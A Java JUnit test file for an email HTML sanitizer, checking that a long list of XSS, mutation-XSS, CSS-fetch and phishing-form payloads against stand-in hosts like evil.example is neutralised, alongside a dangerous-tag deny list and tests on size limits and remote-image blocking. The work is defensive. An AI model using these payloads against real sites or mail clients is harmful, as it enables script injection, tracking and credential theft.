package io.engage.core.sanitizing;

import static org.assertj.core.api.Assertions.assertThat;

import io.engage.model.message.UntrustedHtml;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("G-14")
@DisplayNameGeneration(ReplaceUnderscores.class)
class SanitizingTest {
  private static final Set<String> DANGEROUS =
      Set.of(
          "script",
          "style",
          "iframe",
          "object",
          "embed",
          "svg",
          "math",
          "form",
          "input",
          "button",
          "base",
          "meta",
          "link",
          "template",
          "noscript",
          "textarea",
          "select",
          "video",
          "audio",
          "source",
          "frame",
          "frameset",
          "applet",
          "title",
          "xmp",
          "plaintext",
          "marquee",
          "body");

  static Stream<String> attacks() {
    return Stream.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "<script>alert(1)//",
        "<<script>alert(1);//<</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=\"x:x\" onerror=\"alert(1)\">",
        "<img src=javascript:alert(1)>",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
        "<img srcset=\"https://evil.example/a.png 1x, //evil.example/b.png 2x\">",
        "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example/\">x</a>",
        "<a href=\"\\\\evil.example\\share\">x</a>",
        "<a href=\"/\\evil.example\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
        "<a href=https://x.example onclick=alert(1) style=\"position:fixed;inset:0\">x</a>",
        "<a href=\"https://x.example\" target=_self rel=opener ping=https://evil.example>x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a"
            + " id=x><text>x</text></a></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x'"
            + " xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
            + " onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<p id=\"</title><img src=x onerror=alert(1)>\">x</p><title><p></title>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<template><img src=x onerror=alert(1)></template>",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><?x ><img src=x onerror=alert(1)>?>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(https://evil.example/x.png)}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<p style=\"background:url(https://evil.example/x.png)\">x</p>",
        "<p style=\"background-image:url('//evil.example/x')\">x</p>",
        "<p style=\"background:u\\72l(https://evil.example/x)\">x</p>",
        "<p style=\"background:image-set('https://evil.example/x' 1x)\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"width:exp/**/ression(alert(1))\">x</p>",
        "<p style=\"behavior:url(x.htc);-moz-binding:url(https://evil.example/x.xml#y)\">x</p>",
        "<p style=\"position:absolute;top:0;left:0;z-index:9999\">x</p>",
        "<p style=\"font-family:'x;}</style><script>alert(1)</script>'\">x</p>",
        "<p style=\"list-style:url(https://evil.example/x)\">x</p>",
        "<p style=\"content:url(https://evil.example/x);cursor:url(https://evil.example/y),auto\">x</p>",
        "<div style=\"color:red;\u0000background:url(https://evil.example/x)\">x</div>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\"><a href=\"x\">x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<object data=\"https://evil.example/x.swf\"><param name=x value=y></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<applet code=x codebase=https://evil.example></applet>",
        "<form action=\"https://evil.example\"><input name=password><button>Log in</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<input type=image src=https://evil.example/x onerror=alert(1)>",
        "<video poster=https://evil.example/x><source src=https://evil.example/y"
            + " onerror=alert(1)></video>",
        "<audio src=https://evil.example/x onerror=alert(1)>",
        "<body onload=alert(1) background=https://evil.example/x>",
        "<table background=\"https://evil.example/x\"><tr><td"
            + " background=\"javascript:alert(1)\">x</td></tr></table>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<details open ontoggle=alert(1)>x</details>",
        "<div onmouseover=\"alert(1)\" onfocus=alert(1) tabindex=0 autofocus>x</div>",
        "<div contenteditable onbeforeinput=alert(1)>x</div>",
        "<p title=\"&quot; onmouseover=alert(1) x=&quot;\">x</p>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<div id=location name=cookie class=admin>x</div>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<xml id=i><x><c><![CDATA[<img src=\"javas]]><![CDATA[cript:alert(1)\">]]></c></x></xml>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<p>\u2028<img src=x onerror=alert(1)>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
        "<a href=\"https://x.example\"><img src=\"cid:a\"><script>alert(1)</script>",
        "<img src=\"https://track.example/p.gif\" width=1 height=1>",
        "<img src=\"//track.example/p.gif\">",
        "<img src=\"\\\\evil.example\\share\\x.png\">",
        "<img src=\"/\\evil.example/x.png\">",
        "<img src=\"https:\\\\evil.example\\x.png\">",
        "<img src=\"ht\ntps://evil.example/x.png\">");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void nothing_runs_and_nothing_is_fetched(String attack) {
    SafeHtml safe = sanitized(attack);

    Document shown = Jsoup.parseBodyFragment(safe.value());
    for (Element element : shown.body().select("body > *, body > * *")) {
      assertThat(element.normalName()).isNotIn(DANGEROUS);
      for (Attribute attribute : element.attributes()) {
        assertHarmless(element, attribute);
      }
    }
    assertThat(sanitized(safe.value()).value()).isEqualTo(safe.value());
  }

  private static void assertHarmless(Element element, Attribute attribute) {
    String value = attribute.getValue().toLowerCase(Locale.ROOT).strip();
    switch (attribute.getKey()) {
      case "href" -> assertThat(value).matches("(https?://[^/\\\\]|mailto:|tel:).*");
      case "src" -> assertThat(value).startsWith("cid:");
      case "style" ->
          assertThat(value)
              .doesNotContain(
                  "url", "expression", "position", "behavior", "binding", "import", "\\");
      default ->
          assertThat(attribute.getKey())
              .isIn(
                  Set.of(
                      "rel",
                      "target",
                      "title",
                      "alt",
                      "width",
                      "height",
                      "align",
                      "valign",
                      "bgcolor",
                      "border",
                      "colspan",
                      "rowspan",
                      "color",
                      "face",
                      "size",
                      "dir",
                      "lang",
                      "type",
                      "cellpadding",
                      "cellspacing"));
    }
    assertThat(element.tagName()).matches("[a-z][a-z0-9]*");
  }

  @Test
  void an_ordinary_mail_keeps_its_look_and_its_links() {
    String html =
        "<div style=\"color:#333;font-family:Arial\"><p>Dear <b>Ana</b>,</p><table width=\"100%\">"
            + "<tr><td bgcolor=\"#eee\" colspan=\"2\">Lamp</td></tr></table>"
            + "<a href=\"https://shop.example/o?a=1&amp;b=2\">Your order</a></div>";

    SafeHtml safe = sanitized(html);

    Document shown = Jsoup.parseBodyFragment(safe.value());
    assertThat(shown.selectFirst("div").attr("style")).contains("color:#333", "font-family");
    assertThat(shown.selectFirst("td").attr("colspan")).isEqualTo("2");
    Element link = shown.selectFirst("a");
    assertThat(link.attr("href")).isEqualTo("https://shop.example/o?a=1&b=2");
    assertThat(link.attr("target")).isEqualTo("_blank");
    assertThat(link.attr("rel").split(" ")).contains("noopener", "noreferrer", "nofollow");
    assertThat(safe.shownAsText()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "width:50px!important",
        "width:50px ! /**/ important; color:red",
        "width:50px \\21 important",
        "width:50px \\!important",
        "width:50px &#33;IMPORTANT",
        "font-family: x !important, 'y !important'"
      })
  void a_mail_outranks_nothing_in_the_page_in_which_it_is_shown(String style) {
    SafeHtml safe =
        Sanitizing.decide(
            new UntrustedHtml("<p style=\"" + style + "\">x</p>"), ImagePolicy.remoteBlocked());

    assertThat(safe.value()).contains("x</p>").doesNotContain("!");
  }

  @Test
  void remote_images_are_blocked_and_counted_until_asked_for() {
    UntrustedHtml html =
        new UntrustedHtml(
            "<img src=\"https://t.example/1.gif\" alt=\"Logo\"><img src=//t.example/2.gif>"
                + "<img src=\"cid:part1@mail.example\"><td background=http://t.example/3.gif>"
                + "<p style=\"background-image:url(http://t.example/4.gif)\">x</p>");

    SafeHtml blocked = Sanitizing.decide(html, ImagePolicy.remoteBlocked());
    SafeHtml shown = Sanitizing.decide(html, ImagePolicy.remoteBlocked().withRemoteShown());

    assertThat(Jsoup.parse(blocked.value()).select("img").eachAttr("src"))
        .containsExactly("cid:part1@mail.example");
    assertThat(blocked.value()).doesNotContain("t.example").contains("Logo");
    assertThat(blocked.blockedRemoteImages()).isEqualTo(3);
    assertThat(Jsoup.parse(shown.value()).select("img").eachAttr("src"))
        .containsExactly("https://t.example/1.gif", "cid:part1@mail.example");
  }

  @Test
  void inline_images_get_the_hosts_address() {
    UntrustedHtml html = new UntrustedHtml("<img src=\"cid:part1@mail.example\"><img src=cid:>");

    SafeHtml safe =
        Sanitizing.decide(
            html, ImagePolicy.remoteBlocked().withInlineAddress(id -> "/mail/7/" + id));

    assertThat(Jsoup.parse(safe.value()).select("img").eachAttr("src"))
        .containsExactly("/mail/7/part1@mail.example");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a href=\" ",
        "<a href=\"",
        "<div>",
        "<b>",
        "<table>",
        "<table><tr><td>",
        "<p>x",
        "<",
        "<b><i></b></i>",
        "<a><b><font>",
        "&amp",
        "<!--",
        "<svg><p>",
        "<p style=\"color:red;",
        "<p a=b ",
        "<img src=https://t.example/x>",
        "\u0000",
        "<select><option>",
        "<![CDATA["
      })
  void hostile_html_is_bounded(String piece) {
    for (int size : List.of(200_000, 500_000, 10_000_000)) {
      UntrustedHtml html = new UntrustedHtml(piece.repeat(size / piece.length()));

      long start = System.nanoTime();
      SafeHtml safe = Sanitizing.decide(html, ImagePolicy.remoteBlocked());
      Duration taken = Duration.ofNanos(System.nanoTime() - start);

      assertThat(safe.value().length()).isLessThanOrEqualTo(512 * 1024);
      assertThat(taken).isLessThan(Duration.ofSeconds(4));
      assertThat(sanitized(safe.value()).value()).isEqualTo(safe.value());
    }
  }

  @Test
  void what_is_too_large_or_too_deep_is_shown_as_text() {
    SafeHtml large = sanitized("<p>Dear <b>Ana</b> & Ben</p>" + "<br>".repeat(200_000));
    SafeHtml deep = sanitized("<div>".repeat(400) + "Dear Ana" + "</div>".repeat(400));

    assertThat(large.shownAsText()).isTrue();
    assertThat(Jsoup.parse(large.value()).text()).isEqualTo("Dear Ana & Ben");
    assertThat(deep.shownAsText()).isTrue();
    assertThat(Jsoup.parse(deep.value()).text()).isEqualTo("Dear Ana");
  }

  @Test
  void pieces_of_attacks_in_any_order_stay_harmless_and_settled() {
    Random random = new Random(5);
    List<String> pieces = attacks().toList();
    for (int round = 0; round < 1_500; round++) {
      StringBuilder html = new StringBuilder();
      for (int i = 0; i < 6; i++) {
        String piece = pieces.get(random.nextInt(pieces.size()));
        int from = random.nextInt(piece.length());
        html.append(piece, from, from + random.nextInt(piece.length() - from + 1));
      }

      nothing_runs_and_nothing_is_fetched(html.toString());
    }
  }

  private static SafeHtml sanitized(String html) {
    return Sanitizing.decide(new UntrustedHtml(html), ImagePolicy.remoteBlocked());
  }
}
